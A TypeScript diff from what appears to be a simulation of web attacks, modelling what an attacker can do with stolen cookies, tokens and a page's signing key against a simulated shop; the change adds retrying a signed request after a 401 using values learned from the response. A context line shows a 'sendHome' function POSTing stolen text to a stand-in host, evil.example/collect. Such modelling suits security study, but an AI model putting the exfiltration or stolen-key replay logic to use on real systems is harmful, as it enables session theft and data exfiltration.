@@ -1,6 +1,6 @@
 /** What an attacker can do in an attack: with a program at home always, and with what was granted. Not: what a given attack does (attacks/). */
 import { scriptView } from '#cookies/cookie-jar';
-import type { Fields, HttpRequest } from '#http/message';
+import type { Fields, HttpRequest, HttpResponse } from '#http/message';
 import { encodeUtf8 } from '#text/utf8';
 import type { Attack, Grant, Hands } from './attack';
 import { loadImage, navigate, openFrame, setTab, submitForm, tabAt, type Place } from '../browser/browser';
@@ -12,6 +12,7 @@ import { issueToken } from './issue-token';
 import { answerInClear, openInClear } from './on-the-network';
 import { preparedBy } from './prepared-by';
 import type { Stolen } from './stolen';
+import { learnedAt, learnedFrom } from '../browser/learned';
 import { openPage } from '../browser/page';
 import { fetchCode, logInAtShop, takeCode } from '../browser/partner-login';
 import { allowsInlineScript } from '../browser/page-policy';
@@ -104,10 +105,16 @@ export const giveHands = (
         ...fieldsOf(stolen, hasToken && mode.carrier(setup) === 'cookie', setup),
       ];
       // Whoever has the page's key prepares a request as the page does.
-      const prepared = stolen.some(({ type }) => type === 'key')
-        ? await preparedBy(stage, { method, url: path, fields }, stage.world().clock)
-        : fields;
-      return send(method, path, prepared, content);
+      if (!stolen.some(({ type }) => type === 'key')) return send(method, path, fields, content);
+      const request = { method, url: path, fields };
+      const sendWith = async (learned: Readonly<Record<string, string>>): Promise<HttpResponse> => {
+        const { clock } = stage.world();
+        return send(method, path, await preparedBy(stage, request, clock, (name) => learned[name]), content);
+      };
+      const response = await sendWith({});
+      const learned = learnedFrom(stage, response);
+      // What the shop asks for it says in its answer, to the attacker too.
+      return response.status === 401 && Object.keys(learned).length > 0 ? sendWith(learned) : response;
     },
     meanwhile,
     wait: (seconds) => {
@@ -167,7 +174,12 @@ export const giveHands = (
           return [...cookiesIn(cookies), ...tokensIn(held), ...tokensIn(sessionStorage)];
         },
         prepareAhead: (method, url, fields, seconds) =>
-          preparedBy(stage, { method, url, fields }, stage.world().clock + seconds),
+          preparedBy(
+            stage,
+            { method, url, fields },
+            stage.world().clock + seconds,
+            learnedAt(stage, VICTIM_SHOP),
+          ),
         sendHome: async (text) => {
           await page.send('POST', 'https://evil.example/collect', [], text, {
             mode: 'no-cors',
